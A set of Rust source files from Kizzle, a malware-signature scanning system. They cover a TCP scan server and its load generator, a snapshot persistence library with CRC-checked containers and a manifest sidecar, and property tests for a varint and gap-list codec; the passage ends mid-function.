                if verdict.index.is_some() {
                    counter("kizzle_serve_detections_total").incr();
                }
                write_frame(&mut writer, &encode_scan_reply(&verdict))?;
            }
            OP_METRICS => {
                let mut text = kizzle_telemetry::render_prometheus();
                text.push_str(&aggregator.render_prometheus());
                let mut reply = Vec::with_capacity(1 + text.len());
                reply.push(ST_OK);
                reply.extend_from_slice(text.as_bytes());
                write_frame(&mut writer, &reply)?;
            }
            OP_STATUS => {
                let (epoch, set) = follower.current();
                let mut text = String::new();
                let _ = writeln!(text, "epoch={epoch}");
                let _ = writeln!(text, "signatures={}", set.len());
                let _ = writeln!(text, "workers={workers}");
                let _ = writeln!(text, "draining={}", shutdown.load(Ordering::Acquire));
                for note in follower.notes() {
                    let _ = writeln!(text, "note={note}");
                }
                let mut reply = Vec::with_capacity(1 + text.len());
                reply.push(ST_OK);
                reply.extend_from_slice(text.as_bytes());
                write_frame(&mut writer, &reply)?;
            }
            OP_SHUTDOWN => {
                shutdown.store(true, Ordering::Release);
                write_frame(&mut writer, &[ST_OK])?;
                return writer.flush();
            }
            other => write_error(&mut writer, &format!("unknown opcode {other}"))?,
        }
    }
}

fn write_error(writer: &mut impl Write, message: &str) -> io::Result<()> {
    let mut reply = Vec::with_capacity(1 + message.len());
    reply.push(ST_ERROR);
    reply.extend_from_slice(message.as_bytes());
    write_frame(writer, &reply)
}

/// Resolve a `host:port` string to the first socket address, with an
/// error message naming the input. Shared by the client and binaries.
pub fn resolve(addr: &str) -> io::Result<SocketAddr> {
    addr.to_socket_addrs()?.next().ok_or_else(|| {
        io::Error::new(
            io::ErrorKind::AddrNotAvailable,
            format!("{addr} resolves to no address"),
        )
    })
}
