//! `kizzle-serve`: a chain-tailing scan-serving fleet for Kizzle
//! signature sets.
//!
//! The compiler side of the pipeline (`kizzle`'s [`KizzleService`])
//! grows a signature set day by day and persists it as a snapshot
//! chain. This crate is the *other* process: a daemon whose worker
//! threads each hold a [`Matcher`] over one shared
//! [`ChainFollower`] tailing that chain directory, answering scan
//! requests over a trivial length-prefixed TCP protocol
//! ([`protocol`]), hot-swapping the set mid-traffic whenever the
//! compiler publishes, and exposing its telemetry as Prometheus text
//! over the same socket.
//!
//! [`KizzleService`]: kizzle::KizzleService
//! [`Matcher`]: kizzle::Matcher
//! [`ChainFollower`]: kizzle::ChainFollower
//!
//! # Quickstart
//!
//! Compile a day, publish it into a chain directory, serve it, scan it
//! over the wire:
//!
//! ```
//! use kizzle::prelude::*;
//! use kizzle_corpus::{GraywareStream, SimDate, StreamConfig};
//! use kizzle_serve::{ScanClient, ServeConfig, Server};
//!
//! let dir = std::env::temp_dir().join(format!("kizzle-serve-quickstart-{}", std::process::id()));
//! let _ = std::fs::remove_dir_all(&dir);
//!
//! // Compiler process: grow one day, publish it as the chain's base.
//! let config = KizzleConfig::fast();
//! let reference = ReferenceCorpus::seeded_from_models(SimDate::new(2014, 8, 1), &config);
//! let mut service = KizzleService::new(config, reference)?;
//! let date = SimDate::new(2014, 8, 5);
//! let day = GraywareStream::new(StreamConfig::small(7)).generate_day(date);
//! service.process_day(date, &day)?;
//! service.save(&dir)?;
//!
//! // Serving process: a worker fleet tailing that chain.
//! let server = Server::start(&ServeConfig::new(&dir))?;
//! let mut client = ScanClient::connect(&server.addr().to_string())?;
//! for sample in &day {
//!     let verdict = client.scan(&sample.html)?;
//!     assert_eq!(verdict.family, service.matcher().scan(&sample.html));
//! }
//! client.shutdown()?; // the daemon drains and exits
//! server.join();
//! std::fs::remove_dir_all(&dir)?;
//! # Ok::<(), Box<dyn std::error::Error>>(())
//! ```

#![forbid(unsafe_code)]

pub mod client;
pub mod loadgen;
pub mod protocol;
pub mod server;

pub use client::ScanClient;
pub use loadgen::{LoadgenConfig, LoadgenReport, VerifyReport};
pub use server::{ServeConfig, Server, ServerHandle, SpanAggregator};
