//! The `kizzle-loadgen` binary: saturate a `kizzle-serve` daemon with
//! pipelined scan traffic, report throughput, optionally verify wire
//! verdicts against an in-process matcher over the same chain, and
//! optionally ask the daemon to drain afterwards.

use kizzle_serve::{loadgen, LoadgenConfig, ScanClient};
use std::path::PathBuf;
use std::process::ExitCode;
use std::time::Duration;

const USAGE: &str = "usage: kizzle-loadgen --addr HOST:PORT [--connections N] [--requests N] \
[--seconds S] [--window N] [--seed N] [--verify-chain DIR] [--shutdown]";

struct Args {
    config: LoadgenConfig,
    verify_chain: Option<PathBuf>,
    shutdown: bool,
}

fn parse_args() -> Result<Args, String> {
    let mut addr = None;
    let mut connections = 4usize;
    let mut requests = 2000usize;
    let mut seconds = None;
    let mut window = 32usize;
    let mut seed = 7u64;
    let mut verify_chain = None;
    let mut shutdown = false;

    let mut args = std::env::args().skip(1);
    while let Some(flag) = args.next() {
        let mut value = |name: &str| args.next().ok_or(format!("{name} needs a value\n{USAGE}"));
        fn parsed<T: std::str::FromStr>(name: &str, raw: String) -> Result<T, String>
        where
            T::Err: std::fmt::Display,
        {
            raw.parse().map_err(|e| format!("{name}: {e}"))
        }
        match flag.as_str() {
            "--addr" => addr = Some(value("--addr")?),
            "--connections" => connections = parsed("--connections", value("--connections")?)?,
            "--requests" => requests = parsed("--requests", value("--requests")?)?,
            "--seconds" => seconds = Some(parsed::<u64>("--seconds", value("--seconds")?)?),
            "--window" => window = parsed("--window", value("--window")?)?,
            "--seed" => seed = parsed("--seed", value("--seed")?)?,
            "--verify-chain" => verify_chain = Some(PathBuf::from(value("--verify-chain")?)),
            "--shutdown" => shutdown = true,
            "--help" | "-h" => return Err(USAGE.to_string()),
            other => return Err(format!("unknown flag {other}\n{USAGE}")),
        }
    }

    let addr = addr.ok_or(format!("--addr is required\n{USAGE}"))?;
    let mut config = LoadgenConfig::new(addr);
    config.connections = connections.max(1);
    config.requests = requests;
    config.duration = seconds.map(Duration::from_secs);
    config.window = window.max(1);
    config.seed = seed;
    Ok(Args {
        config,
        verify_chain,
        shutdown,
    })
}

fn main() -> ExitCode {
    let args = match parse_args() {
        Ok(args) => args,
        Err(message) => {
            eprintln!("{message}");
            return ExitCode::FAILURE;
        }
    };

    let report = match loadgen::run(&args.config) {
        Ok(report) => report,
        Err(err) => {
            eprintln!("kizzle-loadgen: {err}");
            return ExitCode::FAILURE;
        }
    };
    println!(
        "scans={} detections={} errors={} elapsed_ms={} scans_per_sec={:.0} epochs={:?}",
        report.scans,
        report.detections,
        report.errors,
        report.elapsed.as_millis(),
        report.scans_per_sec(),
        report.epochs_seen,
    );
    let mut failed = report.errors > 0;

    if let Some(chain_dir) = &args.verify_chain {
        match loadgen::verify(&args.config.addr, chain_dir, args.config.seed) {
            Ok(verify) => {
                println!(
                    "verify compared={} mismatches={}",
                    verify.compared, verify.mismatches
                );
                failed |= verify.mismatches > 0;
            }
            Err(err) => {
                eprintln!("kizzle-loadgen: verify: {err}");
                failed = true;
            }
        }
    }

    if args.shutdown {
        let drained = ScanClient::connect(&args.config.addr).and_then(ScanClient::shutdown);
        if let Err(err) = drained {
            eprintln!("kizzle-loadgen: shutdown: {err}");
            failed = true;
        }
    }

    if failed {
        ExitCode::FAILURE
    } else {
        ExitCode::SUCCESS
    }
}
