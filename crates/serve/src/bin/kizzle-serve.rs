//! The `kizzle-serve` daemon binary: tail a snapshot chain, serve scans
//! over TCP until a client asks the fleet to drain.

use kizzle_serve::{ServeConfig, Server};
use std::io::Write;
use std::process::ExitCode;
use std::time::Duration;

const USAGE: &str =
    "usage: kizzle-serve --chain-dir DIR [--addr HOST:PORT] [--workers N] [--poll-ms MS]";

fn parse_args() -> Result<ServeConfig, String> {
    let mut chain_dir = None;
    let mut addr = "127.0.0.1:0".to_string();
    let mut workers = None;
    let mut poll_ms = 200u64;

    let mut args = std::env::args().skip(1);
    while let Some(flag) = args.next() {
        let mut value = |name: &str| args.next().ok_or(format!("{name} needs a value\n{USAGE}"));
        match flag.as_str() {
            "--chain-dir" => chain_dir = Some(value("--chain-dir")?),
            "--addr" => addr = value("--addr")?,
            "--workers" => {
                workers = Some(
                    value("--workers")?
                        .parse::<usize>()
                        .map_err(|e| format!("--workers: {e}"))?,
                );
            }
            "--poll-ms" => {
                poll_ms = value("--poll-ms")?
                    .parse::<u64>()
                    .map_err(|e| format!("--poll-ms: {e}"))?;
            }
            "--help" | "-h" => return Err(USAGE.to_string()),
            other => return Err(format!("unknown flag {other}\n{USAGE}")),
        }
    }

    let chain_dir = chain_dir.ok_or(format!("--chain-dir is required\n{USAGE}"))?;
    let mut config = ServeConfig::new(chain_dir);
    config.addr = addr;
    if let Some(workers) = workers {
        config.workers = workers.max(1);
    }
    config.poll_interval = Duration::from_millis(poll_ms.max(1));
    Ok(config)
}

fn main() -> ExitCode {
    let config = match parse_args() {
        Ok(config) => config,
        Err(message) => {
            eprintln!("{message}");
            return ExitCode::FAILURE;
        }
    };
    let server = match Server::start(&config) {
        Ok(server) => server,
        Err(err) => {
            eprintln!("kizzle-serve: {err}");
            return ExitCode::FAILURE;
        }
    };
    // Scripted callers (the CI smoke, loadgen wrappers) read this line
    // to learn the OS-assigned port, so flush it out eagerly.
    println!("listening on {}", server.addr());
    let _ = std::io::stdout().flush();
    server.join();
    println!("drained");
    ExitCode::SUCCESS
}
