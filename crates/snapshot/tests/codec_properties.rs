//! Property-based tests for the varint / gap-list codec primitives
//! (ISSUE 4) — the encoding every sorted `SampleId` run in a snapshot now
//! travels through.
//!
//! Contracts:
//!
//! 1. **Round trip is identity** for arbitrary `u64`s and arbitrary
//!    strictly-ascending id sets, across the edges (empty, singleton,
//!    maximal gap, `u32::MAX`).
//! 2. **Truncation decodes to a clean error.** Cutting an encoded stream
//!    at *any* byte offset yields `Truncated`/`Corrupt`, never a panic
//!    and never a silently short list.
//! 3. **Gap lists never beat plain `u32`s by losing information** — the
//!    decoded list is exactly the input, and dense runs actually compress
//!    (the point of the encoding).

use kizzle_snapshot::{Decoder, Encoder, SnapshotError};
use proptest::prelude::*;
use std::collections::BTreeSet;

fn sorted_ids() -> impl Strategy<Value = Vec<u32>> {
    prop::collection::vec(any::<u32>(), 0..200).prop_map(|raw| {
        let set: BTreeSet<u32> = raw.into_iter().collect();
        set.into_iter().collect()
    })
}

proptest! {
    #[test]
    fn varints_roundtrip(values in prop::collection::vec(any::<u64>(), 0..64)) {
        let mut enc = Encoder::new();
        for &v in &values {
            enc.varint(v);
        }
        let bytes = enc.into_bytes();
        let mut dec = Decoder::new(&bytes);
        for &v in &values {
            prop_assert_eq!(dec.varint().unwrap(), v);
        }
        dec.finish().unwrap();
    }

    #[test]
    fn gap_lists_roundtrip_arbitrary_sorted_id_sets(ids in sorted_ids()) {
        let mut enc = Encoder::new();
        enc.gap_list(&ids);
        let bytes = enc.into_bytes();
        let mut dec = Decoder::new(&bytes);
        prop_assert_eq!(dec.gap_list().unwrap(), ids);
        dec.finish().unwrap();
    }

    /// Truncating an encoded gap list at any offset is a clean error:
    /// either the count itself is cut, or the ids run out early. Nothing
    /// panics, and no prefix ever decodes to a *full-length* list.
    #[test]
    fn truncated_gap_lists_error_cleanly(ids in sorted_ids()) {
        let mut enc = Encoder::new();
        enc.gap_list(&ids);
        let bytes = enc.into_bytes();
        for cut in 0..bytes.len() {
            let mut dec = Decoder::new(&bytes[..cut]);
            match dec.gap_list() {
                Err(SnapshotError::Truncated) | Err(SnapshotError::Corrupt(_)) => {}
                Err(other) => prop_assert!(false, "unexpected error {:?} at cut {}", other, cut),
                Ok(decoded) => prop_assert!(
                    false,
                    "truncated stream decoded {} ids at cut {} of {}",
                    decoded.len(),
                    cut,
                    bytes.len()
                ),
            }
        }
    }

    /// Same for bare varints: every proper prefix of an encoded varint is
    /// `Truncated`, never a value and never a panic.
    #[test]
    fn truncated_varints_error_cleanly(value in any::<u64>()) {
        let mut enc = Encoder::new();
        enc.varint(value);
        let bytes = enc.into_bytes();
        for cut in 0..bytes.len() {
            let mut dec = Decoder::new(&bytes[..cut]);
            prop_assert!(matches!(dec.varint(), Err(SnapshotError::Truncated)));
        }
    }

    /// Arbitrary foreign bytes fed to the gap-list decoder never panic —
    /// they decode to some list or to a clean error.
    #[test]
    fn arbitrary_bytes_never_panic_the_decoder(bytes in prop::collection::vec(any::<u8>(), 0..256)) {
        let mut dec = Decoder::new(&bytes);
        match dec.gap_list() {
            Ok(ids) => {
                // Whatever decoded must honor the structural invariant.
                for pair in ids.windows(2) {
                    prop_assert!(pair[0] < pair[1], "decoded list not strictly ascending");
                }
            }
            Err(SnapshotError::Truncated) | Err(SnapshotError::Corrupt(_)) => {}
            Err(other) => prop_assert!(false, "unexpected error {:?}", other),
        }
    }
}

#[test]
fn edge_lists_roundtrip() {
    for ids in [
        vec![],
        vec![0],
        vec![u32::MAX],
        vec![0, u32::MAX],               // maximal single gap
        (0..1000).collect::<Vec<u32>>(), // maximal density
    ] {
        let mut enc = Encoder::new();
        enc.gap_list(&ids);
        let bytes = enc.into_bytes();
        let mut dec = Decoder::new(&bytes);
        assert_eq!(dec.gap_list().unwrap(), ids);
        dec.finish().unwrap();
    }
}

#[test]
fn dense_runs_compress() {
    let dense: Vec<u32> = (10_000..20_000).collect();
    let mut enc = Encoder::new();
    enc.gap_list(&dense);
    // 10,000 ids in ~1 byte each (plus count + first id) vs 40,000 bytes
    // as plain u32s.
    assert!(
        enc.len() < 10_100,
        "dense gap list took {} bytes",
        enc.len()
    );
}
