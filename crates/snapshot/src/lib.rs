//! # kizzle-snapshot — durable warm-state persistence
//!
//! The production Kizzle deployment is a *cron job*, not a long-lived
//! process: the daily signature-compilation loop starts, processes one day,
//! and exits. Everything the incremental engine works hard to keep warm —
//! the corpus store, the neighbor index with its memoized neighborhoods,
//! the accumulated signature set — evaporates with the process, and the
//! next run silently pays the full cold rebuild. This crate is the format
//! layer that lets the warm state survive: a versioned, checksummed,
//! self-describing binary container with atomic write semantics, plus a
//! small human-readable manifest.
//!
//! The crate is deliberately *domain-free*: it knows nothing about stores,
//! indexes or signatures. Domain crates (`kizzle-cluster`, `kizzle`)
//! depend on it and encode their own types with the primitives here.
//!
//! ## Layers
//!
//! * [`codec`] — [`Encoder`]/[`Decoder`]: explicit little-endian
//!   primitives (no `serde`, no reflection — every byte is written and
//!   read by hand, so the on-disk layout is exactly what the code says).
//! * [`container`] — [`SnapshotBuilder`]/[`Snapshot`]: a magic-tagged,
//!   versioned file of named sections, each independently CRC-32
//!   checksummed, with a whole-file checksum trailer. Readers can
//!   recover every intact section of a partially corrupted file, which
//!   is what lets a loader fall back per-section (rebuild the index from
//!   the store, the store from nothing) instead of panicking.
//! * [`manifest`] — [`Manifest`]: a `key = value` sidecar describing the
//!   snapshot (format version, config fingerprint, last day, size,
//!   checksum) so operators can inspect state without a binary reader.
//! * [`chain`] — [`ChainWriter`]/[`ChainedSnapshot`]: day-over-day
//!   incremental persistence. A full *base* file plus deltas of only the
//!   sections whose content fingerprint changed, recorded in the
//!   manifest; readers overlay the chain latest-wins and truncate it at
//!   the first broken delta (resume the base) instead of failing.
//!
//! All files are written **atomically**: to a `.tmp` sibling first, synced,
//! then renamed over the destination — a crash mid-write leaves the
//! previous snapshot intact.
//!
//! ## Example
//!
//! ```
//! use kizzle_snapshot::{Decoder, Encoder, Snapshot, SnapshotBuilder};
//!
//! let mut enc = Encoder::new();
//! enc.u64(42);
//! enc.str("hello");
//! let mut builder = SnapshotBuilder::new();
//! builder.section("demo", enc.into_bytes());
//! let bytes = builder.to_bytes();
//!
//! let snap = Snapshot::from_bytes(&bytes).unwrap();
//! let mut dec = Decoder::new(snap.section("demo").unwrap());
//! assert_eq!(dec.u64().unwrap(), 42);
//! assert_eq!(dec.str().unwrap(), "hello");
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod chain;
pub mod codec;
pub mod container;
pub mod manifest;
pub mod sections;

pub use chain::{ChainSave, ChainWriter, ChainedSnapshot};
pub use codec::{Decoder, Encoder};
pub use container::{write_atomic, Snapshot, SnapshotBuilder, FORMAT_VERSION, MIN_FORMAT_VERSION};
pub use manifest::Manifest;

use std::fmt;

/// Anything a loader can pull named sections out of: a single parsed
/// [`Snapshot`], or the latest-wins overlay of a base→delta
/// [`ChainedSnapshot`]. Domain loaders are written against this trait so
/// the same resume code serves both shapes.
pub trait SectionSource {
    /// The payload of a named section, checksum-verified — the same
    /// contract as [`Snapshot::section`].
    fn section(&self, name: &str) -> Result<&[u8], SnapshotError>;

    /// The container format version the named section's payload was
    /// encoded under. In a chained overlay this is per-section: a v1 base
    /// extended by v2 deltas answers 1 for sections still served by the
    /// base and 2 for sections a delta superseded. Decoders branch on it
    /// to read legacy payload encodings.
    fn section_version(&self, _name: &str) -> u32 {
        FORMAT_VERSION
    }
}

impl SectionSource for Snapshot {
    fn section(&self, name: &str) -> Result<&[u8], SnapshotError> {
        Snapshot::section(self, name)
    }

    fn section_version(&self, _name: &str) -> u32 {
        self.version()
    }
}

/// Everything that can go wrong while writing or reading a snapshot.
///
/// The load paths built on this crate treat every variant as *recoverable*:
/// a corrupt or missing snapshot degrades to a cold rebuild, never a panic.
#[derive(Debug)]
pub enum SnapshotError {
    /// The underlying filesystem operation failed.
    Io(std::io::Error),
    /// The file does not start with the snapshot magic (not a snapshot, or
    /// the header itself was destroyed).
    BadMagic,
    /// The file is a snapshot but of an unsupported format version.
    VersionSkew {
        /// Version found in the file.
        found: u32,
        /// Version this build understands.
        expected: u32,
    },
    /// The file ends before the declared structure does.
    Truncated,
    /// A section's payload does not match its stored CRC-32.
    ChecksumMismatch {
        /// Name of the corrupted section.
        section: String,
    },
    /// A required section is absent (missing from the file, or lost to a
    /// truncated tail).
    SectionMissing {
        /// Name of the missing section.
        section: String,
    },
    /// A section decoded to something structurally impossible.
    Corrupt(String),
    /// The snapshot was written under a different configuration than the
    /// one trying to load it.
    ConfigMismatch {
        /// Fingerprint stored in the snapshot.
        found: u64,
        /// Fingerprint of the loading configuration.
        expected: u64,
    },
}

impl fmt::Display for SnapshotError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            SnapshotError::Io(err) => write!(f, "snapshot io error: {err}"),
            SnapshotError::BadMagic => write!(f, "not a kizzle snapshot (bad magic)"),
            SnapshotError::VersionSkew { found, expected } => {
                write!(
                    f,
                    "snapshot format version {found}, this build reads {expected}"
                )
            }
            SnapshotError::Truncated => write!(f, "snapshot is truncated"),
            SnapshotError::ChecksumMismatch { section } => {
                write!(f, "checksum mismatch in section {section:?}")
            }
            SnapshotError::SectionMissing { section } => {
                write!(f, "section {section:?} is missing")
            }
            SnapshotError::Corrupt(what) => write!(f, "snapshot is corrupt: {what}"),
            SnapshotError::ConfigMismatch { found, expected } => write!(
                f,
                "snapshot was written under config fingerprint {found:#018x}, \
                 loader expects {expected:#018x}"
            ),
        }
    }
}

impl std::error::Error for SnapshotError {
    fn source(&self) -> Option<&(dyn std::error::Error + 'static)> {
        match self {
            SnapshotError::Io(err) => Some(err),
            _ => None,
        }
    }
}

impl From<std::io::Error> for SnapshotError {
    fn from(err: std::io::Error) -> Self {
        SnapshotError::Io(err)
    }
}

/// CRC-32 (IEEE 802.3, reflected polynomial `0xEDB88320`) — the checksum
/// guarding every section and the file trailer.
#[must_use]
pub fn crc32(bytes: &[u8]) -> u32 {
    const TABLE: [u32; 256] = crc32_table();
    let mut crc: u32 = 0xFFFF_FFFF;
    for &b in bytes {
        crc = (crc >> 8) ^ TABLE[((crc ^ u32::from(b)) & 0xFF) as usize];
    }
    !crc
}

const fn crc32_table() -> [u32; 256] {
    let mut table = [0u32; 256];
    let mut i = 0;
    while i < 256 {
        let mut crc = i as u32;
        let mut bit = 0;
        while bit < 8 {
            crc = if crc & 1 == 1 {
                (crc >> 1) ^ 0xEDB8_8320
            } else {
                crc >> 1
            };
            bit += 1;
        }
        table[i] = crc;
        i += 1;
    }
    table
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn crc32_matches_known_vectors() {
        // The canonical check value of CRC-32/IEEE.
        assert_eq!(crc32(b"123456789"), 0xCBF4_3926);
        assert_eq!(crc32(b""), 0);
        assert_ne!(crc32(b"a"), crc32(b"b"));
    }

    #[test]
    fn errors_render_helpfully() {
        let err = SnapshotError::VersionSkew {
            found: 9,
            expected: 1,
        };
        assert!(err.to_string().contains("version 9"));
        let err = SnapshotError::ChecksumMismatch {
            section: "store".into(),
        };
        assert!(err.to_string().contains("store"));
    }
}
