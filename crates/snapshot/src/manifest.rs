//! The human-readable manifest sidecar.
//!
//! A snapshot directory carries a `MANIFEST` file next to the binary
//! snapshot: plain `key = value` lines an operator can `cat` to learn what
//! state is on disk (format version, config fingerprint, last processed
//! day, byte size, checksum) without a binary reader. The manifest is
//! *descriptive*, never authoritative — loaders read the snapshot itself
//! and must survive a missing or damaged manifest.

use crate::container::write_atomic;
use crate::SnapshotError;
use std::path::Path;

/// Header line identifying a manifest file.
const HEADER: &str = "# kizzle-snapshot manifest v1";

/// An ordered list of `key = value` string pairs.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Manifest {
    entries: Vec<(String, String)>,
}

impl Manifest {
    /// Create an empty manifest.
    #[must_use]
    pub fn new() -> Self {
        Manifest::default()
    }

    /// Set a key, replacing any previous value.
    ///
    /// # Panics
    ///
    /// Panics if the key or value contains a newline or the key contains
    /// `=` (they would corrupt the line format).
    pub fn set(&mut self, key: &str, value: impl ToString) {
        let value = value.to_string();
        assert!(
            !key.contains(['\n', '=']) && !value.contains('\n'),
            "manifest entries must be single-line and keys must not contain '='"
        );
        if let Some(entry) = self.entries.iter_mut().find(|(k, _)| k == key) {
            entry.1 = value;
        } else {
            self.entries.push((key.to_string(), value));
        }
    }

    /// Look up a key.
    #[must_use]
    pub fn get(&self, key: &str) -> Option<&str> {
        self.entries
            .iter()
            .find(|(k, _)| k == key)
            .map(|(_, v)| v.as_str())
    }

    /// All entries in insertion order.
    #[must_use]
    pub fn entries(&self) -> &[(String, String)] {
        &self.entries
    }

    /// Render to the on-disk text form.
    #[must_use]
    pub fn to_text(&self) -> String {
        let mut out = String::from(HEADER);
        out.push('\n');
        for (key, value) in &self.entries {
            out.push_str(key);
            out.push_str(" = ");
            out.push_str(value);
            out.push('\n');
        }
        out
    }

    /// Parse the on-disk text form.
    pub fn from_text(text: &str) -> Result<Self, SnapshotError> {
        let mut lines = text.lines();
        if lines.next() != Some(HEADER) {
            return Err(SnapshotError::Corrupt("manifest header missing".into()));
        }
        let mut manifest = Manifest::new();
        for line in lines {
            let line = line.trim();
            if line.is_empty() || line.starts_with('#') {
                continue;
            }
            let Some((key, value)) = line.split_once(" = ") else {
                return Err(SnapshotError::Corrupt(format!(
                    "manifest line without ' = ': {line:?}"
                )));
            };
            // set() asserts this invariant; a damaged file must error.
            if key.contains('=') {
                return Err(SnapshotError::Corrupt(format!(
                    "manifest key contains '=': {line:?}"
                )));
            }
            manifest.set(key, value);
        }
        Ok(manifest)
    }

    /// Write the manifest atomically.
    pub fn write_atomic(&self, path: &Path) -> std::io::Result<()> {
        write_atomic(path, self.to_text().as_bytes())
    }

    /// Read a manifest file.
    pub fn read(path: &Path) -> Result<Self, SnapshotError> {
        let text = std::fs::read_to_string(path)?;
        Manifest::from_text(&text)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn roundtrip_through_text() {
        let mut m = Manifest::new();
        m.set("format_version", 1);
        m.set("config_fingerprint", format!("{:#018x}", 0xDEAD_BEEFu64));
        m.set("last_day", "2014-08-16");
        m.set("last_day", "2014-08-17"); // replaces
        let text = m.to_text();
        let back = Manifest::from_text(&text).unwrap();
        assert_eq!(back, m);
        assert_eq!(back.get("last_day"), Some("2014-08-17"));
        assert_eq!(back.get("missing"), None);
        assert_eq!(back.entries().len(), 3);
    }

    #[test]
    fn damaged_text_is_an_error() {
        assert!(Manifest::from_text("").is_err());
        assert!(Manifest::from_text("wrong header\nk = v\n").is_err());
        let bad_line = format!("{HEADER}\nno separator here\n");
        assert!(Manifest::from_text(&bad_line).is_err());
    }

    #[test]
    #[should_panic(expected = "single-line")]
    fn newline_in_value_panics() {
        Manifest::new().set("k", "a\nb");
    }
}
