//! Explicit little-endian binary codec.
//!
//! Every snapshot payload is written through [`Encoder`] and read back
//! through [`Decoder`] — plain, position-free little-endian primitives
//! with length-prefixed byte strings. No `serde`: the `vendor/serde` stub
//! this workspace carries has no binary backend, and a hand-rolled codec
//! keeps the on-disk layout self-evident and stable across refactors of
//! the in-memory types.
//!
//! Conventions:
//!
//! * All integers are little-endian, fixed width.
//! * `usize` values travel as `u64` (a snapshot written on a 64-bit box
//!   loads on any box; counts beyond `u32::MAX` fail decode explicitly).
//! * `f64` travels as its IEEE-754 bit pattern, so round-trips are exact.
//! * Byte strings and UTF-8 strings are `u64` length followed by payload.
//! * Options are a `u8` tag (0/1) followed by the value when present.

use crate::SnapshotError;

/// Append-only little-endian writer.
#[derive(Debug, Default)]
pub struct Encoder {
    buf: Vec<u8>,
}

impl Encoder {
    /// Create an empty encoder.
    #[must_use]
    pub fn new() -> Self {
        Encoder::default()
    }

    /// The bytes written so far.
    #[must_use]
    pub fn into_bytes(self) -> Vec<u8> {
        self.buf
    }

    /// Number of bytes written so far.
    #[must_use]
    pub fn len(&self) -> usize {
        self.buf.len()
    }

    /// True if nothing has been written.
    #[must_use]
    pub fn is_empty(&self) -> bool {
        self.buf.is_empty()
    }

    /// Write one byte.
    pub fn u8(&mut self, v: u8) {
        self.buf.push(v);
    }

    /// Write a `u16`.
    pub fn u16(&mut self, v: u16) {
        self.buf.extend_from_slice(&v.to_le_bytes());
    }

    /// Write a `u32`.
    pub fn u32(&mut self, v: u32) {
        self.buf.extend_from_slice(&v.to_le_bytes());
    }

    /// Write a `u64`.
    pub fn u64(&mut self, v: u64) {
        self.buf.extend_from_slice(&v.to_le_bytes());
    }

    /// Write an `i64`.
    pub fn i64(&mut self, v: i64) {
        self.buf.extend_from_slice(&v.to_le_bytes());
    }

    /// Write a `usize` as a `u64`.
    pub fn usize(&mut self, v: usize) {
        self.u64(v as u64);
    }

    /// Write an `f64` as its exact bit pattern.
    pub fn f64(&mut self, v: f64) {
        self.u64(v.to_bits());
    }

    /// Write a bool as one byte (0/1).
    pub fn bool(&mut self, v: bool) {
        self.u8(u8::from(v));
    }

    /// Write a length-prefixed byte string.
    pub fn bytes(&mut self, v: &[u8]) {
        self.usize(v.len());
        self.buf.extend_from_slice(v);
    }

    /// Write a length-prefixed UTF-8 string.
    pub fn str(&mut self, v: &str) {
        self.bytes(v.as_bytes());
    }

    /// Write a `u64` as a LEB128 varint: 7 value bits per byte, the high
    /// bit flags continuation. Small values — counts, stamps, id gaps —
    /// take 1–2 bytes instead of a fixed 8.
    pub fn varint(&mut self, mut v: u64) {
        while v >= 0x80 {
            self.buf.push((v as u8 & 0x7F) | 0x80);
            v >>= 7;
        }
        self.buf.push(v as u8);
    }

    /// Write a `usize` as a varint.
    pub fn varint_usize(&mut self, v: usize) {
        self.varint(v as u64);
    }

    /// Write a strictly ascending id list as varint gaps: count, first
    /// value, then `gap − 1` per successor (ascending strictness makes
    /// every gap ≥ 1, so the common dense run encodes as zero bytes of
    /// value payload — one `0x00` per id). Neighborhoods and live-slot
    /// runs are dense id ranges, which is what turns the memoized
    /// neighborhood sections from 4 bytes per id into ~1.
    ///
    /// # Panics
    ///
    /// Panics if `ids` is not strictly ascending — the caller's invariant,
    /// not a decode-time concern.
    pub fn gap_list(&mut self, ids: &[u32]) {
        self.varint_usize(ids.len());
        let mut prev: Option<u32> = None;
        for &id in ids {
            match prev {
                None => self.varint(u64::from(id)),
                Some(p) => {
                    assert!(id > p, "gap_list input must be strictly ascending");
                    self.varint(u64::from(id - p) - 1);
                }
            }
            prev = Some(id);
        }
    }
}

/// Cursor-based little-endian reader over a payload slice.
///
/// Every read is bounds-checked; running off the end yields
/// [`SnapshotError::Truncated`] rather than a panic, so a corrupted
/// payload always surfaces as a recoverable error.
#[derive(Debug)]
pub struct Decoder<'a> {
    data: &'a [u8],
    pos: usize,
}

impl<'a> Decoder<'a> {
    /// Start decoding at the beginning of `data`.
    #[must_use]
    pub fn new(data: &'a [u8]) -> Self {
        Decoder { data, pos: 0 }
    }

    /// Bytes not yet consumed.
    #[must_use]
    pub fn remaining(&self) -> usize {
        self.data.len() - self.pos
    }

    /// Assert the payload was consumed exactly — trailing garbage means
    /// the payload was not written by the matching encoder.
    pub fn finish(self) -> Result<(), SnapshotError> {
        if self.remaining() == 0 {
            Ok(())
        } else {
            Err(SnapshotError::Corrupt(format!(
                "{} trailing bytes after decode",
                self.remaining()
            )))
        }
    }

    fn take(&mut self, n: usize) -> Result<&'a [u8], SnapshotError> {
        if self.remaining() < n {
            return Err(SnapshotError::Truncated);
        }
        let slice = &self.data[self.pos..self.pos + n];
        self.pos += n;
        Ok(slice)
    }

    /// Read one byte.
    pub fn u8(&mut self) -> Result<u8, SnapshotError> {
        Ok(self.take(1)?[0])
    }

    /// Read a `u16`.
    pub fn u16(&mut self) -> Result<u16, SnapshotError> {
        Ok(u16::from_le_bytes(
            self.take(2)?.try_into().expect("2 bytes"),
        ))
    }

    /// Read a `u32`.
    pub fn u32(&mut self) -> Result<u32, SnapshotError> {
        Ok(u32::from_le_bytes(
            self.take(4)?.try_into().expect("4 bytes"),
        ))
    }

    /// Read a `u64`.
    pub fn u64(&mut self) -> Result<u64, SnapshotError> {
        Ok(u64::from_le_bytes(
            self.take(8)?.try_into().expect("8 bytes"),
        ))
    }

    /// Read an `i64`.
    pub fn i64(&mut self) -> Result<i64, SnapshotError> {
        Ok(i64::from_le_bytes(
            self.take(8)?.try_into().expect("8 bytes"),
        ))
    }

    /// Read a `usize` written as `u64`.
    pub fn usize(&mut self) -> Result<usize, SnapshotError> {
        usize::try_from(self.u64()?)
